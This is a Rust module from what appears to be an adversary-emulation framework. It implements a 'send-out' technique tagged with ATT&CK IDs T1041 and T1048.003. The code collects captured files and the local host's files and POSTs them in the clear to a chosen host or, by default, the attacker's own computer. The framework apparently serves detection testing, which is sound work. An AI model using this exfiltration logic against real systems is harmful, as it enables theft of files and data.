//! Sends files out of the house.

use super::craft::contact::Contact;
use super::{Progress, Technique};
use crate::catalog::Entry;
use crate::net::port::{Input, SocketEvent};
use crate::parameters::{Host, Parameters, Port};
use crate::wire::Message;
use crate::wire::file::File;
use crate::wire::http::Http;

/// Technique `send-out`.
#[derive(Debug)]
pub(super) struct SendOut;

/// What a step gives to it.
#[derive(Clone, Debug, Parameters)]
pub(super) struct Params {
    /// Host that gets them; the author's computer on the internet if not given.
    to: Option<Host>,
    /// Port.
    #[param(default = 443, port_of = "to")]
    port: Port,
    /// Path of the one file that is sent; all if not given.
    path: Option<String>,
}

type Step<'s, 'a, 'c> = super::Step<'s, 'a, 'c, SendOut>;

static ENTRY: Entry = Entry {
    id: "send-out",
    title: "Send files out",
    summary: "Opens a web session to its author's computer or another host and sends the files that it got hold of, and those of the host it runs on, \
              in clear. It is done when they are sent. A sensor on the way sees as many bytes leave as the files are long.",
    parameters: Params::PARAMETERS,
    relations: Params::RELATIONS,
    references: &["T1041", "T1048.003"],
};

fn files(step: &mut Step<'_, '_, '_>) -> Vec<File> {
    let mut files = step.knowledge.files.clone();
    for info in step.hands.files() {
        files.extend(step.hands.read_file(&info.path));
    }
    if let Some(path) = &step.params.path {
        files.retain(|f| f.path == *path);
    }
    files
}

impl Technique for SendOut {
    type Params = Params;
    type State = Contact;
    const ENTRY: &'static Entry = &ENTRY;
    const STAGES: &'static [&'static str] = &["find", "connect", "sent"];

    fn act(step: &mut Step<'_, '_, '_>, input: &Input) -> Progress {
        match input {
            Input::Begin => step.call(step.params.to.as_deref(), step.params.port.0),
            Input::Socket(SocketEvent::Opened(stream)) => {
                let files = files(step);
                if files.is_empty() {
                    return Progress::Failed("no such files");
                }
                for file in files {
                    let post = Http::Post { file };
                    step.hands.send(*stream, Message::Http(Box::new(post)));
                }
                step.state.stream = None;
                step.hands.close(*stream);
                Progress::Done("files sent")
            }
            input => {
                let to = step.params.to.as_deref().unwrap_or_default();
                step.reach(input, to, step.params.port.0)
                    .unwrap_or(Progress::Wait)
            }
        }
    }
}
